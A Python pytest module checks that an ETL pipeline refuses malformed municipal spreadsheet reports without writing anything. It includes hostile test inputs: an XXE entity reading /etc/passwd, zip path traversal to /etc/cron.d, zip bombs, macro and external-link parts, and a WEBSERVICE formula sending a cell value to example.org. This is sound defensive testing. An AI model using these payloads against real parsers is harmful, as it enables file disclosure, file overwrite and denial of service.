"""Monthly reports, each with one fault a clerk makes or an attacker tries: refused with the cell, nothing written."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from etl import pipeline
from etl.checking import Continued
from etl.reading import faults
from etl.reading.edition import read_edition
from observatory.catalog import Catalog
from observatory.model import Period
from observatory.store.private import workspace
from observatory.store.private.workspace import Workspace
from tests.etl.municipal import reports
from tests.etl.municipal.reports import cell_edit, changed
from tests.kit.sampling import sample, share

HOME, OFFICES, DETAIL = "Por residencia", "Por oficina", "Detalle"
COVER, MACHINE = "Instrucciones", "_formulario"
Build = Callable[[Path, Catalog], Path]


@dataclass(frozen=True)
class Fault:
    """How the report is spoilt, and what must be said of it."""

    build: Build
    sheet: str
    cell: str
    says: str
    hint: str = ""


def edited(*edits: Callable[[openpyxl.Workbook], object]) -> Build:
    """The good report after some edits."""

    def build(path: Path, catalog: Catalog) -> Path:
        return changed(reports.report(path, catalog), lambda book: [edit(book) for edit in edits])

    return build


def without(sheet: str) -> Callable[[openpyxl.Workbook], object]:
    return lambda book: book.remove(book[sheet])


def renamed(sheet: str, title: str) -> Callable[[openpyxl.Workbook], object]:
    return lambda book: setattr(book[sheet], "title", title)


def row_gone(book: openpyxl.Workbook) -> None:
    book[HOME].delete_rows(10)


def headers_gone(book: openpyxl.Workbook) -> None:
    book[HOME].delete_rows(4, 2)


def no_offices(book: openpyxl.Workbook) -> None:
    for row in book[OFFICES].iter_rows(min_row=6, max_row=20, max_col=24):
        for cell in row:
            cell.value = None


def one_more_in_an_office(book: openpyxl.Workbook) -> None:
    """One more case in every trait: the row still adds up, the sheets no longer agree."""
    for column in "CDGQU":
        book[OFFICES][f"{column}6"].value += 1


def of_another_source(path: Path, catalog: Catalog) -> Path:
    reports.write_filled(reports.form(catalog, "gamea_dna"), reports.MONTH, reports.figures(), out=path)
    return path


def of_a_month_to_come(path: Path, catalog: Catalog) -> Path:
    return reports.report(path, catalog, month=Period.month(2099, 1))


PLAIN = {
    "sexes that miss their total": Fault(edited(cell_edit(HOME, "C8", 40)), HOME, "B8",
        "Sexo: 40 + 5 = 45 (Mujeres, Varones) y el total dice 52"),
    "sexes that pass their total": Fault(edited(cell_edit(HOME, "D8", 6)), HOME, "B8", "47 + 6 = 53"),
    "forms that miss their total": Fault(edited(cell_edit(HOME, "F9", 1)), HOME, "B9", "Forma principal"),
    "ages that miss their total": Fault(edited(cell_edit(HOME, "P9", None)), HOME, "B9", "Edad de la persona"),
    "first and again that miss their total": Fault(edited(cell_edit(HOME, "U9", 0)), HOME, "B9", "Vez que acude"),
    "a total without parts": Fault(edited(*(cell_edit(HOME, f"{column}8", None) for column in "CD")), HOME, "B8",
        "no hay ninguna parte"),
    "a total that all its parts deny": Fault(edited(cell_edit(HOME, "B6", 41)), HOME, "B6",
        "El total dice 41 y todas sus partes suman 40"),
    "a negative count": Fault(edited(cell_edit(HOME, "B6", -4)), HOME, "B6", "negativa: «-4»"),
    "half a case": Fault(edited(cell_edit(HOME, "C6", 12.5)), HOME, "C6", "número entero"),
    "a thousand with a point": Fault(edited(cell_edit(HOME, "B6", "1.234")), HOME, "B6", "número entero",
        "1234, no 1.234"),
    "a word for a number": Fault(edited(cell_edit(HOME, "D7", "varios")), HOME, "D7", "«varios» no es un número"),
    "a dash for a number": Fault(edited(cell_edit(HOME, "D7", "-")), HOME, "D7", "«-» no es un número", "s/d"),
    "a date for a number": Fault(edited(cell_edit(HOME, "B6", date(2024, 3, 5))), HOME, "B6",
        "«2024-03-05» no es un número"),
    "a number too many digits long": Fault(edited(cell_edit(HOME, "B6", 4_000_000)), HOME, "B6", "demasiado"),
    "a name beside a number": Fault(edited(cell_edit(HOME, "C7", "33 casos")), HOME, "C7", "no es un número"),
    "a total left out": Fault(edited(cell_edit(HOME, "B6", None)), HOME, "B6", "Falta el total", "escriba 0"),
    "a total that is not known and parts that are": Fault(
        edited(*(cell_edit(HOME, f"{column}6", None) for column in "DFGHOPQTU"), cell_edit(HOME, "B6", "s/d")),
        HOME, "C6", "El total dice s/d y «Mujeres» dice 36"),
    "a district that does not exist": Fault(edited(cell_edit(HOME, "A8", "Distrito 15")), HOME, "A8",
        "«Distrito 15» no es un lugar", "Distrito"),
    "a quarter for a district": Fault(edited(cell_edit(HOME, "A8", "Villa Dolores")), HOME, "A8", "no es un lugar"),
    "a row without its district": Fault(edited(cell_edit(HOME, "A8", None)), HOME, "A8", "no dice de qué lugar"),
    "a district twice": Fault(edited(cell_edit(HOME, "A8", "distrito 02")), HOME, "A8",
        "está dos veces: ya está en la fila 7"),
    "a district left out": Fault(edited(row_gone), HOME, "A5", "Falta la fila «Distrito 5»"),
    "numbers below the total": Fault(edited(cell_edit(HOME, "B24", 7)), HOME, "B24", "debajo de la fila TOTAL"),
    "a total typed over": Fault(edited(cell_edit(HOME, "B22", 341)), HOME, "B22", "dice 341", "fórmula"),
    "a column of totals typed over": Fault(edited(cell_edit(OFFICES, "D21", 1)), OFFICES, "D21",
        "sus filas suman 312"),
    "a column without its header": Fault(edited(cell_edit(HOME, "D5", None)), HOME, "A5",
        "Falta la columna «Varones»"),
    "a column twice": Fault(edited(cell_edit(HOME, "X5", "mujeres")), HOME, "X5", "está dos veces"),
    "a column of the clerk's own with numbers": Fault(
        edited(cell_edit(HOME, "X5", "Adolescentes"), cell_edit(HOME, "X6", 3)), HOME, "X5",
        "no es del formulario"),
    "no headers at all": Fault(edited(headers_gone), HOME, "A1", "No se encuentran los encabezados"),
    "a sheet left out": Fault(edited(without(OFFICES)), OFFICES, "A1", "Falta la hoja «Por oficina»"),
    "a sheet under another name": Fault(edited(renamed(HOME, "Residencia 2")), HOME, "A1",
        "Falta la hoja «Por residencia»"),
    "the list of details left out": Fault(edited(without(DETAIL)), DETAIL, "A1", "Falta la hoja «Detalle»"),
    "another office's form": Fault(of_another_source, MACHINE, "A1", "Es el formulario de «gamea_dna»"),
    "a workbook of the clerk's own": Fault(edited(without(MACHINE)), MACHINE, "A1", "falta su hoja oculta"),
    "another municipality's form": Fault(edited(cell_edit(MACHINE, "B4", "BO-020101")), MACHINE, "A1",
        "se esperaba el de BO-020105"),
    "a form of an older version": Fault(edited(cell_edit(MACHINE, "B3", 0)), MACHINE, "A1", "Es la versión 0"),
    "the form of another month": Fault(edited(cell_edit(COVER, "B3", "2024-04")), COVER, "B3", "abril de 2024",
        "--month 2024-04"),
    "a month that cannot be read": Fault(edited(cell_edit(COVER, "B3", "el pasado")), COVER, "B3",
        "no se entiende"),
    "no month": Fault(edited(cell_edit(COVER, "B3", None)), COVER, "B3", "Falta el mes"),
    "a month that is not over": Fault(of_a_month_to_come, COVER, "B3", "El mes no ha terminado"),
    "a sending nobody knows": Fault(edited(cell_edit(COVER, "B4", "tercero")), COVER, "B4", "no es un envío"),
    "an office without a name": Fault(edited(cell_edit(OFFICES, "A8", None)), OFFICES, "A8", "de qué oficina"),
    "an office with a long name": Fault(edited(cell_edit(OFFICES, "A8", "Oficina de la plaza de Río Seco")),
        OFFICES, "A8", "nombre corto"),
    "an office twice": Fault(edited(cell_edit(OFFICES, "A8", "CENTRAL")), OFFICES, "A8", "La oficina «CENTRAL»"),
    "an office in no district": Fault(edited(cell_edit(OFFICES, "B7", "Distrito 20")), OFFICES, "B7",
        "«Distrito 20» no es un lugar"),
    "an office beyond the municipality": Fault(edited(cell_edit(OFFICES, "B7", "No se sabe")), OFFICES, "B7",
        "no es un lugar"),
    "no office": Fault(edited(no_offices), OFFICES, "A5", "No hay ninguna oficina"),
    "sheets that do not agree": Fault(edited(one_more_in_an_office), OFFICES, "C6",
        "«Casos de violencia» suma 341 en «Por oficina» y 340 en «Por residencia»"),
    "civil matters that miss their column": Fault(edited(cell_edit(DETAIL, "B22", 8)), DETAIL, "B22",
        "suma 11 y debe sumar 12"),
    "other forms that nobody counted": Fault(edited(cell_edit(DETAIL, "B7", 3)), DETAIL, "B7",
        "suma 3 y debe sumar 0"),
    "more measures than cases": Fault(edited(cell_edit(DETAIL, "B59", 341)), DETAIL, "B59",
        "el total del mes es 340"),
    "a row of a list that is not the form's": Fault(
        edited(cell_edit(DETAIL, "A38", "Vecino"), cell_edit(DETAIL, "B38", 3)), DETAIL, "A38",
        "«Vecino» no es una fila"),
    "a row of a list twice": Fault(edited(cell_edit(DETAIL, "A38", "Pareja"), cell_edit(DETAIL, "B38", 3)), DETAIL,
        "A38", "está dos veces"),
    "a formula whose result was not saved": Fault(edited(cell_edit(HOME, "C6", "=30+6")), HOME, "C6",
        "fórmula sin resultado guardado"),
    "a formula that asks another host": Fault(
        edited(cell_edit(HOME, "C6", '=WEBSERVICE("http://example.org/?q="&B6)')), HOME, "C6", "sin resultado"),
}  # fmt: skip


def zipped(
    change: Callable[[dict[str, bytes]], dict[str, bytes]], *, extra: Callable[[Path], None] | None = None
) -> Build:
    """The good report with the parts of its zip changed."""

    def build(path: Path, catalog: Catalog) -> Path:
        reports.report(path, catalog)
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in change(parts).items():
                archive.writestr(name, content)
        if extra:
            extra(path)
        return path

    return build


def with_part(name: str, content: bytes = b"x") -> Build:
    return zipped(lambda parts: parts | {name: content})


def in_sheet(old: bytes, new: bytes) -> Build:
    def change(parts: dict[str, bytes]) -> dict[str, bytes]:
        name = "xl/worksheets/sheet2.xml"
        assert old in parts[name]
        return parts | {name: parts[name].replace(old, new, 1)}

    return zipped(change)


def raw(content: bytes) -> Build:
    def build(path: Path, _catalog: Catalog) -> Path:
        path.write_bytes(content)
        return path

    return build


def sparse(path: Path, _catalog: Catalog) -> Path:
    """500 MB that take no room: a reader that reads them would take its time."""
    with path.open("wb") as stream:
        stream.truncate(500 << 20)
    return path


def cut(path: Path, catalog: Catalog) -> Path:
    content = reports.report(path, catalog).read_bytes()
    path.write_bytes(content[: len(content) // 2])
    return path


def locked(path: Path) -> None:
    """Say in both directories that the first part is encrypted."""
    content = bytearray(path.read_bytes())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.index(mark) + at
        (bits,) = struct.unpack_from("<H", content, place)
        struct.pack_into("<H", content, place, bits | 1)
    path.write_bytes(bytes(content))


def twice(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("xl/workbook.xml", b"<x/>")


def lying(path: Path) -> None:
    """The directory says that the bomb is one byte long."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.xml", b"0" * (64 << 20))
    content = bytearray(path.read_bytes())
    place = content.rindex(b"PK\x01\x02") + 24
    struct.pack_into("<I", content, place, 1)
    path.write_bytes(bytes(content))


DOCTYPE = (
    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
)
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
MANY = b"".join(
    b'<row r="%d">%s</row>' % (row, b"".join(b"<c><v>1</v></c>" for _ in range(60)))
    for row in range(100, 1100)
)
HOSTILE: dict[str, tuple[Build, str]] = {
    "macros": (with_part("xl/vbaProject.bin"), "contiene macros"),
    "an old macro sheet": (with_part("xl/macrosheets/sheet1.xml"), "contiene macros"),
    "a link to another workbook": (with_part("xl/externalLinks/externalLink1.xml"), "otro archivo"),
    "a connection to a database": (with_part("xl/connections.xml"), "otro archivo"),
    "a file inside": (with_part("xl/embeddings/oleObject1.bin"), "otros archivos dentro"),
    "a document type": (with_part("xl/x.xml", b"<!DOCTYPE x><x/>"), "DOCTYPE"),
    "a document type across two blocks": (with_part("xl/x.xml", b" " * ((1 << 20) - 4) + b"<!DOCTYPE x><x/>"),
        "DOCTYPE"),
    "an entity in another encoding": (with_part("xl/x.xml", DOCTYPE.encode("utf-16")), "DOCTYPE"),
    "a path out of the workbook": (with_part("../../etc/cron.d/x"), "apunta fuera"),
    "an absolute path": (with_part("/etc/cron.d/x"), "apunta fuera"),
    "a path of another system": (with_part("..\\..\\x"), "apunta fuera"),
    "a part twice": (zipped(dict, extra=twice), "dos veces la misma parte"),
    "an encrypted part": (zipped(dict, extra=locked), "partes cifradas"),
    "a password": (raw(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096), "contraseña"),
    "a bomb": (with_part("xl/media/image1.xml", b"0" * (64 << 20)), "ocupa demasiado"),
    "a bomb whose directory lies": (zipped(dict, extra=lying), "No es un libro"),
    "too many parts": (zipped(lambda parts: parts | {f"xl/media/{n}.xml": b"x" for n in range(2_100)}),
        "demasiadas partes"),
    "a file cut short": (cut, "No es un libro"),
    "a page of the web": (raw(b"<html>No encontrado</html>"), "No es un libro"),
    "500 MB": (sparse, "pesa más de 100 MB"),
    "a cell at the far corner": (in_sheet(b"</sheetData>", FAR), "más de 1000 columnas"),
    "a flood of cells": (in_sheet(b"</sheetData>", MANY + b"</sheetData>"), "no es el formulario"),
    "XML that is none": (in_sheet(b"<sheetData>", b"<sheetData><"), "que se pueda leer"),
}  # fmt: skip


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog) -> Iterator[Workspace]:
    """A workspace that must stay empty."""
    yield Workspace(tmp_path_factory.mktemp("store") / "workspace.db", catalog)


def refusals(path: Path, loaded: Workspace, catalog: Catalog) -> list[tuple[str, str, str, str]]:
    """What loading `path` says is wrong, after having looked that nothing was written."""
    reading = read_edition(path, source=catalog.sources["gamea_slim"], catalog=catalog)
    outcome = pipeline.ingest(loaded, Continued(reading, loaded))
    assert not outcome.accepted
    with loaded.loading() as connection:
        assert workspace.read_snapshots(connection) == []
        assert workspace.read_table_rows(connection, "problem") == []
    assert all(problem.hint for problem in outcome.problems)
    errors = [problem for problem in outcome.problems if faults.exit_code([problem])]
    return [(error.sheet, error.cell, error.message, error.hint) for error in errors]


@pytest.mark.parametrize("name", share(list(PLAIN), 2))
def test_a_fault_of_a_clerk_is_refused_with_its_cell(
    name: str, tmp_path: Path, loaded: Workspace, catalog: Catalog
) -> None:
    fault = PLAIN[name]
    refused = refusals(fault.build(tmp_path / "informe.xlsx", catalog), loaded, catalog)
    assert [(sheet, cell) for sheet, cell, _, _ in refused] == [(fault.sheet, fault.cell)], refused
    assert fault.says in refused[0][2]
    assert fault.hint in refused[0][3]


# These are opened in an interpreter of their own, as for an office; the others in a fork with the same code and limits.
IN_ITS_OWN = sample(list(HOSTILE), 3)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_an_attacker_tries_is_refused_with_a_sentence(
    name: str, tmp_path: Path, loaded: Workspace, catalog: Catalog, request: pytest.FixtureRequest
) -> None:
    if name in IN_ITS_OWN:
        request.getfixturevalue("own_process")
    build, says = HOSTILE[name]
    refused = refusals(build(tmp_path / "informe.xlsx", catalog), loaded, catalog)
    assert len(refused) == 1, refused
    assert says in refused[0][2]
